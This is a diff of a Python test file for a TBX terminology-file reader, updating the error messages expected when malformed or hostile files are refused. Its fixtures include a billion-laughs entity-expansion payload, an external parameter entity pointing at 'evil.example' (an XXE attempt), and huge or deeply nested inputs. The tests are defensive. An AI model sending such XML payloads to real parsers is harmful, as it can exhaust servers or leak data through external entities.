@@ -515,16 +515,17 @@ ENTITIES = (
     '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n'
 )
 PARAMETER = '<!DOCTYPE tbx [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>\n'
-NOT_TBX, NOT_XML = "this is not a TBX file", "the file is not well-formed XML"
-DOCTYPE, TOO_LARGE = "The file has entities or a DTD", "The file is too large"
+NOT_TBX, NOT_XML = "This is not a TBX file", "The file is not well-formed XML: see line"
+DTD, TOO_LARGE = "The file declares a DTD of its own", "The file is larger than 20 MB"
+TOO_LONG = "The file takes too much time or memory"
 REFUSED = {
-    "nothing": (" \n", "This is not a TBX file"),
-    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(99), f"Line 1: {NOT_XML}"),
-    "billion laughs": (ENTITIES + v3("&b;"), DOCTYPE),
-    "a DTD in UTF-16": ((PARAMETER + v3()).encode("utf-16"), DOCTYPE),
+    "nothing": (" \n", NOT_TBX),
+    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(99), f"{NOT_XML} 1"),
+    "billion laughs": (ENTITIES + v3("&b;"), DTD),
+    "a DTD in UTF-16": ((PARAMETER + v3()).encode("utf-16"), DTD),
     "an entity of a DTD that is not read": (
         '<!DOCTYPE tbx SYSTEM "a">\n' + v3("<note>&odd;</note>"),
-        DOCTYPE,
+        "The file has an entity that is not known: odd",
     ),
     "200,000 nested elements": (
         GOOD.replace("<conceptEntry", "<x>" * 200_000 + "<conceptEntry"),
@@ -532,33 +533,33 @@ REFUSED = {
     ),
     "a huge text": (
         GOOD.replace("данные", "д" * (LONGEST + 1)),
-        "Line 4: the file is too large",
+        TOO_LONG,
     ),
     "a huge file": (GOOD + " " * LARGEST, TOO_LARGE),
     "a file that takes much memory": (
         v3(concept(PLAIN, "<a/>" * 3_000_000)),
-        TOO_LARGE,
+        TOO_LONG,
     ),
     "too many entries": (
         v3(*["<conceptEntry/>"] * 10_001),
-        "Line 10003: the file is too large",
+        TOO_LONG,
     ),
     "another encoding than it says": (
         GOOD.encode("windows-1251"),
-        f"Line 4: {NOT_XML}",
+        f"{NOT_XML} 4",
     ),
     "an element that is not closed": (
         GOOD.replace("</termSec>", ""),
-        f"Line 4: {NOT_XML}",
+        f"{NOT_XML} 4",
     ),
-    "no entry": (v3(), f"Line 1: {NOT_TBX}"),
-    "another namespace": (GOOD.replace(NAMESPACE, "urn:other"), f"Line 1: {NOT_TBX}"),
+    "no entry": (v3(), NOT_TBX),
+    "another namespace": (GOOD.replace(NAMESPACE, "urn:other"), NOT_TBX),
     "categories as elements": (
         GOOD.replace('style="dca"', 'style="dct"'),
-        "Line 1: its categories are elements",
+        "The categories of the file are elements",
     ),
-    "TBX of 2008": ('<martif type="TBX"/>', f"Line 1: {NOT_TBX}"),
-    "XLIFF": ("<?xml version='1.0'?>\n<xliff/>", f"Line 2: {NOT_TBX}"),
+    "TBX of 2008": ('<martif type="TBX"/>', NOT_TBX),
+    "XLIFF": ("<?xml version='1.0'?>\n<xliff/>", NOT_TBX),
 }
 
 
@@ -574,9 +575,9 @@ def test_invalid_file_is_refused_with_line_and_reason(case):
 @pytest.mark.cold
 def test_what_takes_too_much_time_is_refused(monkeypatch):
     monkeypatch.setattr(foreign, "SECONDS", 0)
-    with pytest.raises(ValidationError, match="takes too long"):
+    with pytest.raises(ValidationError, match=TOO_LONG):
         read(GOOD)
     monkeypatch.undo()
     with override("ru"), pytest.raises(ValidationError) as caught:
         read(v3(concept(PLAIN)).replace("tbx", "xliff"))
-    assert caught.value.messages[0].startswith("Строка 1: это не файл TBX")
+    assert caught.value.messages[0].startswith("Это не файл TBX")
